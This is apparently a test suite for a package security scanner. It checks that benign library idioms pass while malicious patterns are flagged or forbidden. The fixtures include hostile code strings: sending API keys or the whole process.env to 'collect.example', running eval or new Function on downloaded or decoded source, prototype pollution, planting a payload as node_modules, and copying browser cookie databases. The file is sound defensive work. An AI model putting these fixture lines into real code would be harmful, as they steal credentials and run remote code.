/**
 * Precision on real packages (issue 19, second round): idioms of widely used libraries that a pi package bundles
 * through its dependencies, each decided by ADR 0011's verdict semantics, not by the package it was found in. One
 * test per rule change, each with its benign side (the library idiom, written here from scratch) and its malicious
 * side (what the rule is for), so reverting the change fails the benign side and loosening it fails the other.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeSource, type Finding } from '../../src/scanner/index.ts';

const findings = (source: string): Finding[] => analyzeSource(source, { file: 'lib.js', lang: 'js' }).findings;
const rules = (source: string): string[] => findings(source).map((f) => f.ruleId);
const verdict = (source: string): 'forbidden' | 'flagged' | 'safe' => {
  const f = findings(source);
  return f.some((x) => x.classification === 'forbidden') ? 'forbidden' : f.length > 0 ? 'flagged' : 'safe';
};

describe("a function's own prototype is not Function.prototype", () => {
  it('a library defining its classes (prototype methods, defineProperty on F.prototype) is safe', () => {
    const lib = [
      'function Subject() { this.observers = []; }',
      'Subject.prototype.next = function (v) { for (const o of this.observers) o(v); };',
      "Object.defineProperty(Subject.prototype, 'observed', { get: function () { return this.observers.length > 0; } });",
      'Object.defineProperties(Subject.prototype, { size: { get() { return this.observers.length; } } });',
      'module.exports = Subject;',
    ].join('\n');
    assert.deepEqual(rules(lib), []);
  });

  it('writing to Function.prototype, or to the prototype behind any function, stays proto.pollution (forbidden)', () => {
    assert.deepEqual(rules("Object.defineProperty(Object.getPrototypeOf(function () {}), 'call', { value: () => 0 });"), [
      'proto.pollution',
    ]);
    assert.deepEqual(rules('(function () {}).constructor.prototype.apply = null;'), ['proto.pollution']);
    assert.deepEqual(rules('function F() {}\nF.constructor.prototype.bind = null;'), ['proto.pollution']);
  });
});

describe("Function.prototype's methods are not the Function constructor", () => {
  it('taking call/apply/bind from Function.prototype (uncurrying helpers) is safe', () => {
    const lib = [
      'var $apply = Function.prototype.apply;',
      'var $call = Function.prototype.call;',
      'var uncurry = Function.call.bind(Function.prototype.call);',
      'var pushAll = Function.prototype.apply.bind(Array.prototype.push);',
      'module.exports = { $apply, $call, uncurry, pushAll };',
    ].join('\n');
    assert.deepEqual(rules(lib), []);
  });

  it('the constructor reached through Function.prototype, bound, or passed on is still code generation (forbidden)', () => {
    assert.equal(verdict("Function.prototype.constructor('return process')()"), 'forbidden');
    assert.deepEqual(rules("var mk = Function.bind(null, 'return 1');"), ['code.function-constructor']);
    assert.deepEqual(rules('var mk = Function.call.bind(Function);'), ['code.function-constructor']);
  });
});

describe("replacing one object's own prototype is proto.replace (flagged), not pollution", () => {
  it("the setPrototypeOf fallback of class helpers and a DOM library's class wiring are flagged, not forbidden", () => {
    const helpers = [
      'var setProto = Object.setPrototypeOf || ({ __proto__: [] } instanceof Array && function (d, b) { d.__proto__ = b; });',
      'function DOMError(msg) { this.message = msg; }',
      'DOMError.prototype.__proto__ = Error.prototype;',
      'module.exports = { setProto, DOMError };',
    ].join('\n');
    assert.deepEqual([...new Set(rules(helpers))], ['proto.replace']);
    assert.equal(verdict(helpers), 'flagged');
  });

  it('replacing or writing through the prototype of a shared prototype stays proto.pollution (forbidden)', () => {
    assert.deepEqual(rules('Array.prototype.__proto__ = new Proxy({}, {});'), ['proto.pollution']);
    assert.deepEqual(rules('const o = {};\no.__proto__.__proto__ = null;'), ['proto.pollution']);
    assert.deepEqual(rules('const o = {};\no.__proto__.isAdmin = true;'), ['proto.pollution']);
  });
});

const FS =
  "import { writeFileSync, mkdirSync, symlinkSync, copyFileSync, mkdtempSync, rmSync } from 'node:fs';\n" +
  "import { join } from 'node:path';\nimport { tmpdir, homedir } from 'node:os';\n";
const tsFindings = (source: string): Finding[] => analyzeSource(FS + source, { file: 'index.ts' }).findings;
const tsRules = (source: string): string[] => tsFindings(source).map((f) => f.ruleId);

describe('writes that name a never-written folder without putting code in it', () => {
  it("the project's .pi/agents folder is pi's folder (refused at runtime, flagged), not the agent folder's prefix", () => {
    const f = tsFindings("export function clean(cwd: string) { rmSync(join(cwd, '.pi', 'agents'), { recursive: true }); }");
    assert.deepEqual(
      f.map((x) => x.ruleId),
      ['fs.refused-write'],
    );
    assert.match(f[0]!.message, /\.pi\/agents: refused at runtime/);
  });

  it('creating an empty node_modules folder, and linking a worktree node_modules to the repository one, are flagged', () => {
    assert.deepEqual(tsRules("export function f(dir: string) { mkdirSync(join(dir, 'node_modules'), { recursive: true }); }"), [
      'fs.refused-write',
    ]);
    assert.deepEqual(
      tsRules("export function f(top: string, wt: string) { symlinkSync(join(top, 'node_modules'), join(wt, 'node_modules')); }"),
      ['fs.refused-write'],
    );
  });

  it('a link planting another folder as node_modules, and a file written into one, stay forbidden', () => {
    assert.deepEqual(tsRules("export function f(wt: string) { symlinkSync('/tmp/payload', join(wt, 'node_modules')); }"), [
      'fs.sensitive-write',
    ]);
    assert.deepEqual(tsRules("export function f(dir: string) { writeFileSync(join(dir, 'node_modules', 'x', 'index.js'), 'p'); }"), [
      'fs.sensitive-write',
    ]);
  });
});

describe('a folder made by mkdtemp holds nothing of the user', () => {
  it("a browser cookie database copied into a fresh temporary folder is a credential read (flagged), not a write to the user's store", () => {
    const src =
      "const d = mkdtempSync(join(tmpdir(), 'cookies-'));\ncopyFileSync(join(homedir(), 'Library', 'Cookies'), join(d, 'Cookies'));";
    assert.deepEqual(tsRules(src), ['fs.credential-read']);
  });

  it('a cookie database written elsewhere, or code written into a temporary folder made inside pi extensions, is forbidden', () => {
    assert.deepEqual(tsRules("export function f(dir: string) { writeFileSync(join(dir, 'Cookies'), 'x'); }"), ['fs.sensitive-write']);
    const planted = "const d = mkdtempSync(join(homedir(), '.pi', 'agent', 'extensions', 'x-'));\nwriteFileSync(join(d, 'index.ts'), 'x');";
    assert.ok(tsRules(planted).includes('fs.sensitive-write'));
    assert.match(tsFindings(planted).find((f) => f.ruleId === 'fs.sensitive-write')!.message, /extensions\/x-…\(new folder\)\/index\.ts/);
  });
});

describe('credential issuers and what counts as a secret variable', () => {
  const post = (host: string, body: string) =>
    `fetch('https://${host}/v1/search', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(${body}) });`;

  it("BrightData's key to brightdata.com and Google's application credentials to Google's token endpoint are flagged", () => {
    assert.deepEqual(rules(post('api.brightdata.com', '{ key: process.env.BRIGHTDATA_API_KEY }')), ['net.credential-to-issuer']);
    const adc = "const fs = require('fs');\nconst cfg = fs.readFileSync(process.env.GOOGLE_APPLICATION_CREDENTIALS, 'utf8');\n";
    assert.deepEqual(rules(`${adc}${post('oauth2.googleapis.com', 'cfg')}`), ['fs.credential-read', 'net.credential-to-issuer']);
  });

  it('the same credentials sent to any other host are exfiltration (forbidden)', () => {
    assert.deepEqual(rules(post('collect.example', '{ key: process.env.BRIGHTDATA_API_KEY }')), ['net.exfiltration']);
    const adc = "const fs = require('fs');\nconst cfg = fs.readFileSync(process.env.GOOGLE_APPLICATION_CREDENTIALS, 'utf8');\n";
    assert.deepEqual(rules(`${adc}${post('collect.example', 'cfg')}`), ['fs.credential-read', 'net.exfiltration']);
  });

  it('a variable named like configuration (a model, a zone) in a request body is not a secret', () => {
    assert.deepEqual(rules(post('api.search.example', '{ model: process.env.SEARCH_MODEL, zone: process.env.SEARCH_ZONE }')), []);
  });

  it('a variable named like a secret, a computed name, or the whole environment in a body still is', () => {
    assert.deepEqual(rules(post('api.search.example', '{ k: process.env.SEARCH_API_TOKEN }')), ['net.exfiltration']);
    assert.deepEqual(rules(`const n = String(Date.now());\n${post('api.search.example', '{ k: process.env[n] }')}`), ['net.exfiltration']);
    assert.ok(rules(post('api.search.example', '{ all: process.env }')).includes('net.exfiltration'));
  });
});

describe('Function compiling source the code builds is code.generated (flagged); loaded or decoded source stays forbidden', () => {
  it('template and serializer compilers (a template string, a joined parameter list, a spread of arguments) are flagged', () => {
    for (const lib of [
      'export const createFunction = (value) => new Function(`return ${value}`)();',
      'export function compile(params, body) { return Function(...params, \'"use strict";\\n\' + body); }',
      'export function Evaluate(...args) { return new (globalThis.Function)(...args); }',
    ]) {
      assert.deepEqual(rules(lib), ['code.generated'], lib);
      assert.equal(verdict(lib), 'flagged', lib);
    }
  });

  it('source read from a file, downloaded, taken from the environment, decoded, or compiled through an alias is forbidden', () => {
    for (const bad of [
      "const fs = require('fs');\nconst code = fs.readFileSync(process.argv[2], 'utf8');\nnew Function('module', code)({});",
      "async function load() { return (await fetch('https://cdn.example/p.js')).text(); }\nnew Function(await load())();",
      'new Function(process.env.HOOK_CODE)();',
      'new Function(atob(globalThis.payload))();',
      'const F = Function;\nexport const run = (src) => F(src)();',
      "globalThis['Func' + 'tion'](globalThis.src)();",
    ]) {
      assert.ok(rules(bad).includes('code.function-constructor'), bad);
      assert.equal(verdict(bad), 'forbidden', bad);
    }
    assert.match(
      findings("const fs = require('fs');\nnew Function(fs.readFileSync('x.js', 'utf8'))();")[0]!.message,
      /from a file it reads/,
    );
  });

  it('calling what new Function returned is judged at the new, not a second compile', () => {
    assert.deepEqual(rules("new Function('a', 'return a + 1')(1);"), ['code.eval-constant']);
  });
});

describe('eval and Function kept as values are code.eval-reference (flagged); handed to a call they stay forbidden', () => {
  it('an intrinsics table, an instanceof test and an alias that is never called are not code generation', () => {
    const lib =
      "var INTRINSICS = { '%eval%': eval, '%Function%': Function };\nmodule.exports = function (x) { return x instanceof Function ? INTRINSICS : null; };";
    assert.deepEqual(rules(lib), ['code.eval-reference', 'code.eval-reference']);
    assert.equal(verdict(lib), 'flagged');
    assert.deepEqual(rules('export const isFn = (x) => x instanceof Function;'), []);
  });

  it('eval handed to a call, or an alias called on a download, is forbidden', () => {
    assert.deepEqual(rules("fetch('https://cdn.example/p.js').then((r) => r.text()).then(eval);"), ['code.eval']);
    assert.deepEqual([...new Set(rules('Reflect.construct(Function, [globalThis.src]);'))], ['code.function-constructor']);
    const alias = "const box = { run: eval };\nbox.run(await (await fetch('https://cdn.example/p.js')).text());";
    assert.equal(verdict(alias), 'forbidden');
    assert.ok(rules(alias).includes('code.eval'));
  });
});

describe('native code: an addon is refused at runtime (flagged); a foreign-function interface is forbidden', () => {
  it('a native addon loaded through bindings or node-gyp-build is flagged and says the runtime refuses it', () => {
    const f = findings("const db = require('bindings')('better_sqlite3.node');\nmodule.exports = db;");
    assert.deepEqual(
      f.map((x) => x.ruleId),
      ['native.addon'],
    );
    assert.equal(f[0]!.classification, 'flagged');
    assert.match(f[0]!.message, /refused at runtime/);
  });

  it('koffi and ffi-napi (any C function of any library) are native.ffi, forbidden', () => {
    assert.deepEqual(rules("const koffi = require('koffi');\nkoffi.load('libc.so.6');"), ['native.ffi']);
    assert.equal(verdict("const ffi = require('ffi-napi');\nffi.Library('libc', {});"), 'forbidden');
  });
});
